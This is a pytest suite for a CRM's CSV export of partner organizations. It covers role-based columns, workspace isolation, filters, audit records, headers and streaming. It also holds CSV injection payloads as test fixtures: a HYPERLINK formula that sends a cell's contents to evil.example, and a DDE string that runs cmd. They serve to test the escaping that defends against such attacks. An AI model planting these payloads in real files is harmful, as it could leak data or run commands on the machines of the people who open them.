"""The CSV export of the organization list: what it holds for each role, the same filters as
the list, formula cells made harmless, the audit log's record, and the download's headers."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from crm.audit.models import AuditEvent
from crm.extensions import db
from crm.partners.models import OrganizationKind, Stage
from crm.partners.services import EXPORT_COLUMNS, OrganizationInput, create_organization
from crm.tenancy import workspace_context
from crm.web.csv_export import csv_text, safe_cell

STAFF_HEADER = [*EXPORT_COLUMNS, "Owner", "Research notes"]
PUBLIC_HEADER = list(EXPORT_COLUMNS)


def add(app, world, name: str, **extra) -> None:
    values = {"kind": OrganizationKind.CIVIC, "stage": Stage.IDENTIFIED, **extra}
    with app.app_context(), workspace_context(world.a.id):
        create_organization(OrganizationInput(name=name, **values))
        db.session.commit()


def download(client, query: str = "") -> list[list[str]]:
    response = client.get(f"/partners/export.csv{query}")
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def exports(app, world) -> list[tuple]:
    with app.app_context(), workspace_context(world.a.id):
        events = db.session.execute(
            select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id)
        ).scalars()
        return [(e.record_type, e.actor_label, e.changes) for e in events]


def test_staff_export_the_whole_list_with_staff_columns(app, world, login):
    add(
        app,
        world,
        "Harbor Legal Aid",
        kind=OrganizationKind.OTHER,
        stage=Stage.RESEARCHED,
        website="https://legal.example",
        email="help@legal.example",
        phone="555 0100",
        address="1 Court St\nHarbor",
        interests="Ask about expungement clinics.",
        owner=world.a.staff.membership_public_id,
    )
    rows = download(login(world.a.admin))
    assert rows[0] == STAFF_HEADER
    assert rows[1:] == [
        ["A Other Org Y", "Faith-based", "Identified", "", "", "", "", "", "Secret notes Y"],
        ["A Partner Org X", "Civic / volunteer", "Active", "", "", "", "", "", "Secret notes X"],
        [
            "Harbor Legal Aid",
            "Other",
            "Researched",
            "https://legal.example",
            "help@legal.example",
            "555 0100",
            "1 Court St\nHarbor",
            "Staff a",
            "Ask about expungement clinics.",
        ],
    ]


def test_the_download_is_an_attachment_never_cached(world, login):
    response = login(world.a.staff).get("/partners/export.csv")
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="organizations-'
    )
    assert response.headers["Content-Disposition"].endswith('.csv"')
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    response.get_data()


def test_viewers_export_without_staff_only_columns(app, world, login):
    add(
        app,
        world,
        "Viewer Sees",
        interests="Never to a viewer",
        owner=world.a.admin.membership_public_id,
    )
    rows = download(login(world.a.viewer))
    assert rows[0] == PUBLIC_HEADER
    assert [r[0] for r in rows[1:]] == ["A Other Org Y", "A Partner Org X", "Viewer Sees"]
    flat = "\n".join(",".join(r) for r in rows)
    assert "Secret notes" not in flat and "Never to a viewer" not in flat
    assert "Admin a" not in flat


def test_partners_export_only_their_own_organization(world, login):
    rows = download(login(world.a.partner))
    assert rows == [
        PUBLIC_HEADER,
        ["A Partner Org X", "Civic / volunteer", "Active", "", "", "", ""],
    ]


def test_another_workspace_exports_its_own_only(world, login):
    rows = download(login(world.b.staff))
    assert [r[0] for r in rows[1:]] == ["B Other Org Y", "B Partner Org X"]


FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_escaped_with_an_apostrophe(app, world, login):
    """OWASP CSV injection: a name (or any cell) a spreadsheet would run as a formula is
    prefixed with an apostrophe, so it shows as the text it is."""
    add(app, world, FORMULAS[0], phone="+1 312 555 0100", interests="=cmd|' /C calc'!A0")
    add(app, world, "Plain = Name", address="@home", email="-@dash.example")
    rows = download(login(world.a.staff), "?sort=name")
    by_name = {r[0]: r for r in rows[1:]}
    row = by_name["'" + FORMULAS[0]]
    assert row[5] == "'+1 312 555 0100"
    assert row[8] == "'=cmd|' /C calc'!A0"
    plain = by_name["Plain = Name"]  # "=" inside a cell is harmless: left alone
    assert plain[6] == "'@home"
    assert plain[4] == "'-@dash.example"


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_escapes_every_formula_start(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Safe Harbor") == "Safe Harbor"
    assert safe_cell(None) == ""
    assert safe_cell(12) == "12"


def test_every_cell_is_quoted_and_quotes_are_doubled():
    text = csv_text(["Name"], [['Say "hi", then leave']])
    assert text == '\ufeff"Name"\r\n"Say ""hi"", then leave"\r\n'


def test_the_export_follows_the_lists_filters_and_order(app, world, login):
    add(app, world, "Faith Toured", kind=OrganizationKind.FAITH_BASED, stage=Stage.TOURED)
    add(
        app,
        world,
        "Faith Mine",
        kind=OrganizationKind.FAITH_BASED,
        owner=world.a.staff.membership_public_id,
    )
    client = login(world.a.staff)
    assert [r[0] for r in download(client, "?kind=faith_based")[1:]] == [
        "A Other Org Y",
        "Faith Mine",
        "Faith Toured",
    ]
    assert [r[0] for r in download(client, "?kind=faith_based&sort=stage")[1:]] == [
        "A Other Org Y",
        "Faith Mine",
        "Faith Toured",
    ]
    assert [r[0] for r in download(client, "?q=faith&stage=toured")[1:]] == ["Faith Toured"]
    assert [r[0] for r in download(client, "?owner=mine")[1:]] == ["Faith Mine"]
    # the list's own link to the export carries its filters
    page = client.get("/partners/?kind=faith_based&stage=toured").get_data(as_text=True)
    assert 'href="/partners/export.csv?kind=faith_based&amp;stage=toured"' in page


def test_a_viewer_cannot_filter_by_owner(app, world, login):
    add(app, world, "Owned Quietly", owner=world.a.staff.membership_public_id)
    owner = world.a.staff.membership_public_id
    rows = download(login(world.a.viewer), f"?owner={owner}")
    assert [r[0] for r in rows[1:]] == ["A Other Org Y", "A Partner Org X", "Owned Quietly"]


def test_each_export_is_audited_with_its_filters_and_size(app, world, login):
    client = login(world.a.staff)
    download(client, "?kind=faith_based&owner=mine&sort=stage")
    download(login(world.a.viewer))
    assert exports(app, world) == [
        (
            "Organization",
            "staff@a.example",
            {
                "format": "csv",
                "rows": 0,
                "truncated": False,
                "filters": {"kind": "faith_based", "owner": "mine", "sort": "stage"},
                "columns": STAFF_HEADER,
            },
        ),
        (
            "Organization",
            "viewer@a.example",
            {
                "format": "csv",
                "rows": 2,
                "truncated": False,
                "filters": {"sort": "name"},
                "columns": PUBLIC_HEADER,
            },
        ),
    ]


def test_a_large_export_streams_in_batches_and_stops_at_the_cap(app, world, login, monkeypatch):
    from crm.partners import views

    monkeypatch.setattr(views, "EXPORT_BATCH", 3)
    monkeypatch.setattr(views, "EXPORT_MAX", 7)
    for n in range(10):
        add(app, world, f"Bulk {n}")
    client = login(world.a.staff)
    response = client.get("/partners/export.csv?q=bulk")
    assert response.headers["X-Export-Truncated"] == "true"
    chunks = list(response.response)  # the body as the server sends it
    assert len(chunks) == 3  # header + 3 rows, then 3 rows, then 1 row
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode()[1:])))
    assert [r[0] for r in rows[1:]] == [f"Bulk {n}" for n in range(7)]
    assert exports(app, world)[-1][2]["rows"] == 7
    assert exports(app, world)[-1][2]["truncated"] is True


def test_bad_filters_are_left_out_as_in_the_list(world, login):
    rows = download(login(world.a.staff), "?kind=spaceship&stage=won&sort=random&owner=nobody")
    assert [r[0] for r in rows[1:]] == ["A Other Org Y", "A Partner Org X"]
